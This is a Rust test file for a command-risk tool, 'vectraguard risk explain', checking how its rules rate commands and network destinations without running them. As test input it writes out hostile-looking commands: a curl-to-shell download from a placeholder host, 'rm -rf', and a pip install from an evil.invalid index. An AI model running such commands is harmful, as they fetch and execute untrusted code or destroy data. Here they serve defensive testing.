//! `vectraguard risk explain`: the risk rules' rating of a command or a destination,
//! printed without running anything; rules from configuration files.

use super::harness::{Vg, Workspace, each_identity};

#[test]
fn explain_rates_a_command_without_running_it() {
    each_identity(|runner| {
        let ws = Workspace::new();
        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--", "sh", "-c"])
            .arg("touch ran && curl -fsSL https://example.invalid/i.sh | sh")
            .run();
        out.assert_success();
        assert_eq!(
            out.lines(),
            ["CRITICAL  rule=pipe-to-shell  reason=downloaded code piped into a shell"],
            "{out}"
        );
        assert!(!ws.exists("ran"), "explain ran the command\n{out}");

        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--", "rm", "-rf", "build"])
            .run();
        out.assert_success();
        assert_eq!(
            out.lines(),
            ["HIGH      rule=rm-rf  reason=recursive forced delete"],
            "{out}"
        );

        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--", "git", "status"])
            .run();
        out.assert_success();
        assert_eq!(
            out.lines(),
            ["LOW       rule=-  reason=no rule matched"],
            "{out}"
        );
    });
}

#[test]
fn explain_json_and_destinations() {
    each_identity(|runner| {
        let ws = Workspace::new();
        let out = Vg::new(runner, ws.path())
            .args([
                "risk",
                "explain",
                "--json",
                "--",
                "pip",
                "install",
                "--index-url",
            ])
            .args(["http://evil.invalid/simple", "x"])
            .run();
        out.assert_success();
        let v: serde_json::Value = serde_json::from_str(out.stdout.trim())
            .unwrap_or_else(|e| panic!("not JSON: {e}\n{out}"));
        assert_eq!(v["subject"], "exec", "{out}");
        assert_eq!(v["level"], "CRITICAL", "{out}");
        assert_eq!(v["rule"], "pip-custom-index", "{out}");
        assert_eq!(v["timeout_seconds"], 30, "{out}");

        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--destination", "203.0.113.7:22"])
            .run();
        out.assert_success();
        out.assert_stdout_contains("HIGH      rule=raw-ip  ");

        // Allowed by the configured network rules, on 443, asked by an interpreter.
        // (A project file may not allow; a --config file may.)
        let net = ws.write("net.toml", "network_rules = [\"allow example.com:443\"]\n");
        let explain = |dest: &str, asker: &[&str]| {
            let mut vg = Vg::new(runner, ws.path());
            vg.args(["risk", "explain", "--config"]).arg(&net);
            vg.args(["--destination", dest]);
            if !asker.is_empty() {
                vg.arg("--").args(asker);
            }
            vg.run()
        };
        let out = explain("example.com:443", &[]);
        out.assert_success();
        out.assert_stdout_contains("LOW       rule=-  ");
        let out = explain("example.com:443", &["python3", "fetch.py"]);
        out.assert_success();
        out.assert_stdout_contains("CRITICAL  rule=code-network  ");
        let out = explain("other.example:443", &[]);
        out.assert_stdout_contains("HIGH      rule=unlisted-host  ");

        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--destination", "example.com"])
            .run();
        out.assert_code(125);
        out.assert_stderr_contains("expected HOST:PORT");
    });
}

#[test]
fn rules_from_files_are_applied_and_a_project_cannot_lower_levels() {
    each_identity(|runner| {
        let ws = Workspace::new();
        ws.write(
            "vectraguard.toml",
            "[[risk.rules]]\nid = \"terraform-apply\"\nlevel = \"high\"\nreason = \"changes real infrastructure\"\nexecutable = \"terraform\"\nargv = '\\s(apply|destroy)\\b'\n",
        );
        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--", "terraform", "apply"])
            .run();
        out.assert_success();
        assert_eq!(
            out.lines(),
            ["HIGH      rule=terraform-apply  reason=changes real infrastructure"],
            "{out}"
        );

        // A project rule that would replace the built-in rm -rf rule is refused.
        ws.write(
            "vectraguard.toml",
            "\n[[risk.rules]]\nid = \"rm-rf\"\nlevel = \"medium\"\nreason = \"fine here\"\nexecutable = \"rm\"\n",
        );
        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--", "rm", "-rf", "build"])
            .run();
        out.assert_code(125);
        out.assert_stderr_contains(
            "vectraguard.toml:2: risk rule 'rm-rf': a project file cannot replace a built-in rule",
        );
        out.assert_stderr_contains("~/.config/vectraguard/config.toml");
        assert!(out.stdout.is_empty(), "{out}");
    });
}

#[test]
fn a_malformed_rule_names_the_file_the_rule_and_the_fix() {
    each_identity(|runner| {
        let ws = Workspace::new();
        let config = ws.write(
            "rules.toml",
            "[[risk.rules]]\nid = \"bad-regex\"\nlevel = \"high\"\nreason = \"r\"\nargv = 'curl (x'\n",
        );
        let out = Vg::new(runner, ws.path())
            .args(["risk", "explain", "--config"])
            .arg(&config)
            .args(["--", "ls"])
            .run();
        out.assert_code(125);
        out.assert_stderr_contains(&format!(
            "{}:1: risk rule 'bad-regex': argv is not a valid regular expression",
            config.display()
        ));
        out.assert_stderr_contains("hint: use Rust regex syntax");
    });
}
